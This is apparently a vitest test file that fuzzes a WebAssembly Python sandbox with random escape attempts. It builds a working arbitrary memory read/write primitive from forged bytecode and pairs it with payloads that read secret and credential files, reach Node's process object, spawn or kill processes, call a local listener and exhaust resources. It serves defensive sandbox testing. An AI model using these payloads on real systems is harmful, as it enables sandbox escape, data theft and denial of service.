import { existsSync, readdirSync } from "node:fs";
import { url as inspector } from "node:inspector";
import { afterAll, expect, test } from "vitest";
import { type Random, randomStream } from "../../../src/core/random.ts";
import { watchPeak } from "./descendants.fixture.ts";
import { createPython } from "./python.ts";
import { openSurroundings } from "./surroundings.fixture.ts";

/*
 * Attempts that nobody has listed. Each is drawn at random: a way to power over the interpreter or to JavaScript, disturbances of what surrounds
 * it (descriptors, streams, errors, getters, prototypes, interrupts), and an aim. What one combination does inside is not asserted, only that it
 * has no effect outside. RETROGRADE_ESCAPES=1000 draws more than the tests do, and
 * RETROGRADE_ESCAPES_MS gives each more time.
 */
const variants = Number(process.env.RETROGRADE_ESCAPES ?? 40);
const seed = Number(process.env.RETROGRADE_ESCAPES_SEED ?? 1);

const memoryMb = 128;
const timeoutMs = Number(process.env.RETROGRADE_ESCAPES_MS ?? 2000);
const python = createPython({ interpreters: 2, timeoutMs, memoryMb });
const { folder, secret, written, port, free, visits, victim, listens, close } = await openSurroundings();
const peakBelow = watchPeak();
/** Bytes that this process held at most. */
let peakHere = 0;
const watch = setInterval(() => {
  peakHere = Math.max(peakHere, process.memoryUsage().rss);
});

afterAll(() => {
  clearInterval(watch);
  python.close();
  close();
});

/**
 * Names that all parts use. `memory` is all of the interpreter's memory: a bytearray that code forges, since Python does not check its bytecode.
 * `power` calls a function of WebAssembly's table as if it were `len`.
 */
const beginning = `
import sys, os, gc, _imp, importlib.machinery, builtins, opcode, types
kept, roots = [], []
def call(f, *args):
  try: return f(*args)
  except BaseException as error: kept.append(error)
def builtin(name):
  module = _imp.create_builtin(importlib.machinery.ModuleSpec(name, None))
  _imp.exec_builtin(module)
  return module
def forged():
  words = (1000, id(bytearray), 2**31 - 1, 2**31 - 1, 0, 0, 0)
  fake = b"".join(word.to_bytes(4, "little") for word in words)
  kept.append(fake)
  pointer = (id(fake) + 16).to_bytes(4, "little")
  consts = (pointer, fake)
  index = (id(pointer) - id(consts)) // 4 % 2**32
  op = opcode.opmap
  code = bytes([op["RESUME"], 0])
  for shift in (24, 16, 8): code += bytes([op["EXTENDED_ARG"], index >> shift & 255])
  code += bytes([op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0])
  return types.FunctionType((lambda: 7).__code__.replace(co_code=code, co_consts=consts), {})()
memory = forged()
def read(address, size): return bytes(memory[address : address + size])
def write(address, data): memory[address : address + len(data)] = data
def power(index, *args):
  method = int.from_bytes(read(id(len) + 8, 4), "little")
  write(method + 4, index.to_bytes(4, "little"))
  return len(*args)
`;

/** How code comes to power over the interpreter, or to objects of JavaScript. */
const ways = [
  `roots += [v for o in gc.get_objects() if type(o).__name__ == "JsFinder" for v in o.jsproxies.values()]`,
  `roots += [o for o in gc.get_objects() if "JsProxy" in type(o).__name__]`,
  `roots.append(call(builtin, "_pyodide_core"))\nroots.append(call(lambda: __import__("js")))`,
  `sys.meta_path.clear()\nroots.append(call(builtin, "NAME"))\nroots += [f for f in vars(roots[-1]).values() if callable(f)] if roots[-1] else []`,
  `frame = sys._getframe()\nwhile frame:\n  roots += [v for names in (frame.f_globals, frame.f_builtins) for v in dict(names).values() if callable(v)]\n  frame = frame.f_back`,
  `call(power, INDEX, "a")`,
  `call(power, INDEX, id(b"/etc/passwd") + 16)`,
  `method = call(lambda: int.from_bytes(read(id(print) + 8, 4), "little"))\ncall(write, method, bytes([NUMBER % 256] * 16))\ncall(print, "x")`,
  `call(power, INDEX, NUMBER)\ncall(power, 1 + INDEX // 60, "WRITTEN")`,
  `call(write, NUMBER, b"\\xff" * 65536)`,
  `call(lambda: write(id(print), read(id(len), 48)))`,
  `roots.append(call(read, NUMBER, 4096))`,
] as const;

/** Built-in modules that other systems would not give away. */
const modules = [
  ...[
    "_testcapi",
    "_testinternalcapi",
    "_testlimitedcapi",
    "_remote_debugging",
    "_posixsubprocess",
    "_socket",
    "faulthandler",
    "posix",
  ],
  ...["fcntl", "termios", "mmap", "select", "_signal", "_thread", "_asyncio", "_xxtestfuzz", "atexit", "marshal", "_imp"],
] as const;

const disturbances = [
  "",
  // Descriptors.
  `def take():\n  while True: kept.append(os.dup(1))\ncall(take)`,
  `def reopen():\n  for i in range(300): kept.append(open("/dev/stdout", "w"))\ncall(reopen)`,
  `for fd in range(0, 9): call(os.close, fd)`,
  `for fd in range(3, 256): call(os.dup2, 1, fd)`,
  // Streams.
  `class Stream:\n  def write(self, text): raise KeyError(text)\n  def flush(self): return self.write("x")\n  def __getattr__(self, name): return self\nsys.stdout = sys.stderr = Stream()`,
  `call(os.dup2, os.open("/tmp/out", os.O_CREAT | os.O_RDWR), 1)`,
  // Errors.
  `class E(BaseException):\n  def __str__(self): raise self\n  __repr__ = __str__\nsys.excepthook = sys.unraisablehook = lambda *a: (_ for _ in ()).throw(E())`,
  `call(lambda: sys._getframe(3).f_globals.update(describe=lambda e: "A" * 30_000_000))`,
  `call(lambda: sys._getframe(3).f_globals.update(run=None, state=None, main=None))`,
  `e = ValueError()\ne.__context__ = TypeError()\ncall(lambda: setattr(e.__context__, "__context__", e))`,
  // Getters and proxies.
  `class Proxy:\n  def __getattribute__(self, name): return Proxy()\n  def __call__(self, *a, **k): return Proxy()\n  def __fspath__(self): return "SECRET"\n  def __index__(self): return VICTIM\nroots.append(Proxy())`,
  `import weakref\nroots += [weakref.proxy(o) for o in (sys, os) if hasattr(o, "__weakref__")]`,
  // Prototypes: methods of built-in types, past their read-only view.
  `for kind in (str, bytes, list, dict, int): call(lambda: gc.get_referents(kind.__dict__)[0].update(join=print, encode=lambda *a: b"forged", __len__=lambda s: 2**31))`,
  `builtins.len = builtins.repr = builtins.compile = builtins.open = lambda *a, **k: "forged"`,
  `for m in list(sys.modules.values()): call(setattr, m, "system", print)`,
  // Interrupts and time.
  `import signal\ncall(signal.signal, signal.SIGINT, signal.SIG_IGN)`,
  `import signal\ncall(signal.signal, signal.SIGINT, lambda *a: os.write(1, b"x" * 100_000))`,
  `class Late:\n  def __del__(self):\n    while True: pass\nkept.append(Late())`,
  `sys.settrace(lambda *a: (_ for _ in ()).throw(KeyboardInterrupt()))`,
  `call(sys.setrecursionlimit, 10**8)`,
  `gc.disable()\ncall(gc.freeze)\nsys.addaudithook(lambda *a: kept.append(a))`,
] as const;

const aims = [
  // A file.
  `for path in ("WRITTEN", "../../../../WRITTEN", "/proc/self/cwd/WRITTEN", "/dev/fd/5"):\n  call(lambda: os.write(os.open(path, os.O_WRONLY | os.O_CREAT), b"x"))`,
  `for path in ("SECRET", "/proc/self/root/SECRET", "/proc/1/environ", b"SECRET\\xff"): call(lambda: print(open(path).read()))`,
  `call(os.symlink, "FOLDER", "/l")\ncall(lambda: print(open("/l/secret.txt").read()))\ncall(lambda: print(os.listdir("FOLDER")))`,
  `for f in roots[:50]: call(f, "SECRET")\nfor f in roots[:50]: call(f, "WRITTEN", "w")`,
  `for o in roots[:50]:\n  call(lambda: print(o.process.mainModule.require("fs").readFileSync("SECRET", "utf8")))\n  call(lambda: o.constructor.constructor("return process")().exit(3))`,
  // A process or a signal.
  `for f in (os.kill, getattr(builtin("posix"), "kill", None), *roots[:30]): call(f, VICTIM, 15)`,
  `for f in (os.system, builtin("posix").system, *roots[:30]): call(f, "touch WRITTEN")`,
  `call(lambda: builtin("_posixsubprocess").fork_exec(["/bin/touch", "WRITTEN"], [b"/bin/touch"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, -1, None, None, None, -1, None))`,
  // A connection.
  `s = call(lambda: builtin("_socket").socket())\ncall(lambda: s.connect(("127.0.0.1", PORT)))\nfor f in roots[:30]: call(f, ("127.0.0.1", PORT))`,
  `s = call(lambda: builtin("_socket").socket(2, 1, 0, 3))\ncall(lambda: (s.bind(("127.0.0.1", FREE)), s.listen()))`,
  `call(lambda: __import__("urllib.request").request.urlopen("http://127.0.0.1:PORT/escape"))`,
  // An answer of another session, or a forged one.
  `import json, struct\nbody = json.dumps({"id": NUMBER % 50, "kind": "", "text": "", "output": "forged", "droppedBytes": 0}).encode()\nfor fd in range(3, 256): call(os.write, fd, struct.pack(">I", len(body)) + body)`,
  `for kind in (int, str): call(lambda: gc.get_referents(kind.__dict__)[0].update(__add__=lambda *a: 666, __repr__=lambda s: "forged"))`,
  `call(write, id(41) + 12, b"\\x9a\\x02")\ncall(write, id(1), b"\\1" * 16)`,
  // Memory, time, output.
  `while True: kept.append(bytearray(NUMBER % 5_000_000 + 1000))`,
  `for i in range(10**6): call(lambda: open(f"/tmp/{i}", "wb").write(b"x" * 500_000))`,
  `while True: call(lambda: os.write(1, b"x" * 10**6))`,
  `raise ValueError("A" * 30_000_000)`,
  `def f(): return f()\nf()`,
  `while True:\n  try:\n    while True: pass\n  except BaseException: pass`,
  `10 ** 10 ** 8`,
  `builtin("faulthandler")._sigsegv()`,
  `call(lambda: builtin("posix")._exit(0))\nos.abort()`,
] as const;

function variant(random: Random): string {
  const parts = [beginning, random.pick(ways), random.pick(disturbances), random.pick(disturbances), random.pick(aims)];
  return parts
    .join("\n")
    .replaceAll("SECRET", secret)
    .replaceAll("WRITTEN", written)
    .replaceAll("FOLDER", folder)
    .replaceAll("PORT", String(port))
    .replaceAll("FREE", String(free))
    .replaceAll("VICTIM", String(victim.pid))
    .replaceAll("NAME", random.pick(modules))
    .replaceAll("INDEX", String(1 + random.integer(14_300)))
    .replaceAll("NUMBER", String(random.integer(2 ** 25)));
}

test(`none of ${variants} random attempts has an effect`, { timeout: 3_600_000 }, async () => {
  const before = process.memoryUsage().rss;
  const other = python.session();
  // A busy machine may take longer than that, here and below.
  while ((await other.run("x = 41")).error !== undefined);
  const kinds = new Map<string, number>();
  for (let i = 0; i < variants; i++) {
    const code = variant(randomStream(seed, "escape", i));
    const started = performance.now();
    const { output, error = "" } = await python.run(code);
    const milliseconds = performance.now() - started;
    const kind = /^\w*/.exec(error.split("\n").at(-1) ?? "")?.[0] ?? "";
    kinds.set(kind, (kinds.get(kind) ?? 0) + 1);
    const effects = {
      read: (output + error).includes("hidden value"),
      files: readdirSync(folder),
      visits: [...visits],
      listens: await listens(),
      signal: victim.signalCode ?? victim.exitCode,
      inspector: inspector(),
      length: output.length + error.length > 20_000,
      late: milliseconds > timeoutMs + 60_000,
      exit: existsSync(secret) ? undefined : "removed",
    };
    const none = {
      read: false,
      files: ["removed.txt", "secret.txt"],
      visits: [],
      listens: false,
      signal: null,
      inspector: undefined,
    };
    expect(effects, code).toEqual({ ...none, length: false, late: false, exit: undefined });
    const others = await other.run("x + 1");
    const isLate = others.error?.startsWith("Error: stopped after") || others.output.startsWith("[Variables of earlier calls");
    if (!isLate) expect(others, code).toEqual({ output: "42\n", error: undefined });
    const next = await python.run("1 + 1");
    if (!next.error?.startsWith("Error: stopped after")) expect(next, code).toEqual({ output: "2\n", error: undefined });
    expect(error, code).not.toContain("SyntaxError"); // of the generator
  }
  expect(peakHere - before).toBeLessThan(300 * 2 ** 20);
  const below = peakBelow();
  expect(below).toBeLessThan((3 * memoryMb + 200) * 2 ** 20);
  if (variants > 500) console.log("how they ended", kinds, "peak MB here, below", peakHere / 2 ** 20, below / 2 ** 20);
});

test("the attempts do come to power over the interpreter: otherwise they would show nothing", async () => {
  const patient = createPython({ interpreters: 1, timeoutMs: 60_000 });
  const { output, error } = await patient.run(`${beginning}\nprint(read(id(b"secret bytes") + 16, 12))`);
  expect([output, error]).toEqual(["b'secret bytes'\n", undefined]);
  expect((await patient.run(`${beginning}\nprint(power(1, "a"))`)).error).toMatch(/crashed/);
  patient.close();
});
